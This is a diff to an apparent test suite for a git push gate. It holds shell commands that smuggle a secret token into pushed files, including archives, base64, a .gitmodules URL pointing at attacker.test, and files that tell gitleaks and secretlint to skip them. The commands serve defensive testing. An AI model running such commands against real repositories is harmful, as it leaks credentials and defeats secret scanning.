@@ -3,7 +3,7 @@ import { type Attack, NOT_THERE, OPEN_PROXY, OUTWARD } from '../attack.ts';
 /** What is pushed, after `clone $N`, which makes the branch. */
 const PUSHES: Readonly<Record<string, string>> = {
   'a file': 'echo "token=$LEAK $N" >settings && save',
-  'a binary file': 'printf "\\0\\1\\2$LEAK\\0" >data.bin && echo $N >n && save',
+  'a binary file': 'printf "\\0\\1\\2$LEAK $N\\0" >data.bin && save',
   'a compressed file': 'echo "token=$LEAK $N" | gzip >data.gz && save',
   'an archive': 'echo "token=$LEAK $N" >s && tar -czf data.tar.gz s && rm s && save',
   'base64 in a file': 'echo "token=$LEAK $N" | base64 >notes && save',
@@ -21,9 +21,9 @@ const PUSHES: Readonly<Record<string, string>> = {
   '.gitmodules':
     'printf "[submodule \\"a\\"]\\n\\tpath = a\\n\\turl = https://x:$LEAK@attacker.test/$N\\n" >.gitmodules && save',
   'a file that asks scanners to look away':
-    'echo "token=$LEAK # gitleaks:allow secretlint-disable-line" >s && echo "[allowlist] # $N" >.gitleaks.toml && echo "*" >.gitleaksignore && save',
+    'echo "token=$LEAK $N # gitleaks:allow secretlint-disable-line" >s && echo "[allowlist] # $N" >.gitleaks.toml && echo "*" >.gitleaksignore && save',
   'a pointer of Git LFS, which stands for what nobody scanned':
-    'printf "version https://git-lfs.github.com/spec/v1\\noid sha256:%064d\\nsize 9\\n" 7 >$N && save',
+    'printf "version https://git-lfs.github.com/spec/v1\\noid sha256:%s\\nsize 9\\n" "$(echo $N | sha256sum | head -c 64)" >$N && save',
 };
 
 const PUSH = 'git push origin HEAD';
@@ -76,7 +76,7 @@ export const GIT: readonly Attack[] = [
   },
   {
     name: "a push is refused with the gate's own credential",
-    script: 'clone $N && echo "$CREDENTIAL" >s && save && git push origin HEAD',
+    script: 'clone $N && echo "$CREDENTIAL $N" >s && save && git push origin HEAD',
     gains: '"refs/heads/$N',
     told: /git-gate: refused[\s\S]*exit 1$/,
     trace: /^git-gate .*push-refused/,
